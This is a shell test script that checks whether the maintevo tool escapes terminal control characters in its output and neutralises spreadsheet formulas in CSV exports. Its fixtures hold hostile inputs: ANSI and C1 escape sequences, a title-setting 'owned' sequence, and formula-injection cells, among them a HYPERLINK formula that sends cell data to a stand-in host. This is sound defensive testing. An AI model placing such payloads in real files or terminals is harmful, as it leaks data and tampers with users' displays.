# Output hygiene (issue 9, point 10): control characters in titles, tags
# and patterns show as escapes (ESC as \x1b) in messages, --warnings and
# whatever goes to a terminal, and stay as they are in files; --excel-safe
# neutralises spreadsheet formulas in CSV; DOT labels show the literal title.
. "$(dirname "$0")/lib.sh" "$@"

ESC=$(printf '\033')
C1=$(printf '\302\233') # U+009B, the one-character CSI

# Titles and fields holding terminal escapes, a C1 control, and text a
# spreadsheet would run as a formula.
mkrepo r
mkdir -p r/drivers/x r/net
printf 'int x;\n' >r/drivers/x/a.c
printf 'int y;\n' >r/net/b.c
{
	printf 'RED \033[31mTITLE\033[0m\nS:\tMaintained\nF:\tdrivers/x/\n\n'
	printf 'CSI \302\2332J\nS:\tOdd Fixes\nF:\tdrivers/\n\n'
	printf '=HYPERLINK("http://x.example/?"&A1,"click")\nS:\tMaintained\nF:\tnet/\n\n'
	printf '+SUM(1)\nS:\tMaintained\nF:\tnet/b.c\n\n'
	printf -- '-2+3\nS:\tMaintained\nF:\tnet/\n\n'
	printf '@cmd\nS:\tMaintained\nF:\tnet/\n\n'
	printf 'RED \033[31mTITLE\033[0m\nS:\tWeird\033[5m\nF:\tdrivers/x/a.c\n\n'
	printf 'THE REST\nF:\t*\nF:\t*/\n'
} >r/MAINTAINERS
commit_all r v1
printf 'int x;\nint z;\n' >r/drivers/x/a.c
commit_all r v2
expect_exit 0 "$MEV" walk --repo r --store S --tags 'v*' -q
expect_exit 0 "$MEV" track --store S -q

# no_raw_controls FILE: neither ESC nor the C1 CSI as such in FILE
no_raw_controls() {
	if grep -qF "$ESC" "$1" || grep -qF "$C1" "$1"; then
		fail "'$1' holds a raw control character: $(cat -v "$1" | head -n 5)"
	fi
}

step "--warnings: the titles and values in notes show their escapes"
expect_exit 0 "$MEV" sections --repo r --rev v1 --warnings -o sections.csv
expect_stderr_contains "duplicate section title 'RED \\x1b[31mTITLE\\x1b[0m'"
expect_stderr_contains "unknown status 'Weird\\x1b[5m'"
no_raw_controls "$ERR"

step "messages: a tag, release or command name with escapes"
expect_exit 1 "$MEV" sections --repo r --rev "v1${ESC}[2J"
expect_error "'v1\\x1b[2J'"
no_raw_controls "$ERR"
expect_exit 1 "$MEV" export sections --store S --release "${ESC}]0;owned${ESC}\\"
expect_error "release '\\x1b]0;owned\\x1b\\' is not in store"
no_raw_controls "$ERR"
expect_exit 1 "$MEV" clusters --store S --release "x${C1}2J"
expect_error "release 'x\\u009b2J' is not in store"
no_raw_controls "$ERR"
expect_exit 2 "$MEV" "${ESC}[2J"
expect_stderr_contains "'\\x1b[2J' is not a maintevo command"
no_raw_controls "$ERR"
expect_exit 2 "$MEV" releases --store S --format "csv${ESC}[8m"
expect_stderr_contains "unknown format 'csv\\x1b[8m'"
no_raw_controls "$ERR"

step "CSV to a file keeps the data as it is"
grep -qF "RED ${ESC}[31mTITLE${ESC}[0m,MAINTAINERS,1," sections.csv || fail "sections.csv: title changed"
grep -qF "CSI ${C1}2J" sections.csv || fail "sections.csv: C1 title changed"
expect_exit 0 "$MEV" export sections --store S -o export.csv
grep -qF "v1,RED ${ESC}[31mTITLE${ESC}[0m,Maintained," export.csv || fail "export.csv: title changed"
grep -qF "Weird${ESC}[5m" export.csv || fail "export.csv: status changed"
expect_exit 0 "$MEV" export sections --store S >stdout.csv || fail "export to a pipe"
same_files export.csv "$OUT"

step "to a terminal: CSV, JSON, a report show escapes"
if script -qc true /dev/null </dev/null >/dev/null 2>&1; then
	# on_tty NAME CMD...: run CMD on a terminal, its output (CR LF as LF) in NAME
	on_tty() {
		local name=$1 cmd=
		shift
		printf -v cmd '%q ' "$@"
		script -qc "$cmd 2>$name.err" /dev/null </dev/null | tr -d '\r' >"$name"
		if grep -qE 'ERROR: (Address|Leak)Sanitizer|runtime error:' "$name.err"; then
			fail "$*: sanitizer report: $(head -n 5 "$name.err")"
		fi
	}
	on_tty tty.csv "$MEV" export sections --store S
	grep -qF 'v1,RED \x1b[31mTITLE\x1b[0m,Maintained,' tty.csv || fail "tty.csv: $(head -3 tty.csv)"
	grep -qF 'CSI \u009b2J' tty.csv || fail "tty.csv: the C1 CSI"
	no_raw_controls tty.csv
	# the rest is the same as the file
	sed -e "s/$ESC/\\\\x1b/g" -e "s/$C1/\\\\u009b/g" export.csv >export.shown
	same_files export.shown tty.csv
	on_tty tty-sections.csv "$MEV" sections --repo r --rev v1
	grep -qF 'RED \x1b[31mTITLE\x1b[0m,MAINTAINERS,1,' tty-sections.csv || fail "tty-sections.csv"
	no_raw_controls tty-sections.csv
	on_tty tty.json "$MEV" export sections --store S --format json
	grep -qF 'RED \u001b[31mTITLE' tty.json || fail "tty.json"
	no_raw_controls tty.json
	on_tty tty.md "$MEV" report --store S
	grep -qF 'RED \x1b' tty.md || fail "tty.md: $(grep RED tty.md | head -2)"
	no_raw_controls tty.md
	on_tty tty.dot "$MEV" export graph --store S --release v1 --format dot
	no_raw_controls tty.dot
else
	echo "# (skipped: no util-linux 'script' to give a terminal)"
fi

step "--excel-safe: a ' before text starting with = + - @, in CSV only"
expect_exit 0 "$MEV" export sections --store S --excel-safe -o safe.csv
grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" safe.csv || fail "safe.csv: ="
grep -qF ",'+SUM(1)," safe.csv || fail "safe.csv: +"
grep -qF ",'-2+3," safe.csv || fail "safe.csv: -"
grep -qF ",'@cmd," safe.csv || fail "safe.csv: @"
# the same rows otherwise: only those cells changed
sed "s/\\([,\"]\\)'\\([-=+@]\\)/\\1\\2/g" safe.csv >unsafe.csv
same_files export.csv unsafe.csv
grep -qF ',"=HYPERLINK' export.csv || fail "export.csv: formulas are kept without --excel-safe"
expect_exit 0 "$MEV" sections --repo r --rev v1 --excel-safe
expect_stdout_contains "'@cmd,MAINTAINERS,"
expect_exit 0 "$MEV" clusters --store S --release v1 --excel-safe
grep -q ",'[-=+@]" "$OUT" || fail "clusters --excel-safe: no neutralised cell"
if grep -q ',[-=+@]' "$OUT"; then fail "clusters --excel-safe left a formula"; fi
expect_exit 0 "$MEV" releases --store S --excel-safe -o releases-safe.csv
expect_exit 0 "$MEV" releases --store S -o releases.csv
same_files releases.csv releases-safe.csv # numbers are never prefixed
expect_exit 2 "$MEV" export sections --store S --excel-safe --format json
expect_error "--excel-safe goes with --format csv only"
expect_exit 2 "$MEV" events --store S --excel-safe --format jsonl
expect_error "--excel-safe goes with --format csv only"
expect_exit 2 "$MEV" export graph --store S --release v1 --excel-safe
expect_error "--excel-safe goes with --format csv only"

step "DOT labels: Graphviz shows the title as it is"
# A title with everything DOT or Graphviz read specially, through
# import-pasta (a CSV field may hold a newline; MAINTAINERS titles cannot).
title='TWO
LINES &lt;entity&gt; <b> & "q" \N back\slash'
mkdir pasta
{
	printf 'from,to,lines,size\n'
	q=${title//\"/\"\"}
	printf '"%s",x,3,30\n"%s","%s",5,50\nx,x,4,40\n' "$q" "$q" "$q"
} >pasta/v1.0.csv
expect_exit 0 "$MEV" import-pasta --store P pasta -q
expect_exit 0 "$MEV" export graph --store P --release v1.0 --format dot -o p.dot
grep -qF 'label="TWO\nLINES &amp;lt;entity&amp;gt; <b> &amp; \"q\" \\N back\\slash",' p.dot ||
	fail "p.dot: $(grep label p.dot)"
expect_exit 0 "$MEV" export graph --store S --release v1 --format dot -o s.dot
grep -qF 'label="RED \\x1b[31mTITLE\\x1b[0m"' s.dot || fail "s.dot: $(grep RED s.dot)"
no_raw_controls s.dot
if command -v dot >/dev/null && command -v python3 >/dev/null; then
	dot -Tsvg p.dot >p.svg || fail "dot -Tsvg p.dot"
	# the node's text lines, entities decoded, joined by newlines
	shown=$(python3 - p.svg <<'EOF'
import html, re, sys
svg = open(sys.argv[1], encoding="utf-8").read()
for node in re.findall(r'<g id="node\d+" class="node">(.*?)</g>', svg, re.S):
    lines = [html.unescape(t) for t in re.findall(r'<text[^>]*>(.*?)</text>', node, re.S)]
    if lines != ["x"]:
        print("\n".join(lines))
EOF
	)
	[ "$shown" = "$title" ] || fail "Graphviz shows '$shown', not '$title'"
else
	echo "# (Graphviz's dot or python3 not installed: the rendering is not checked)"
fi
echo "PASS"
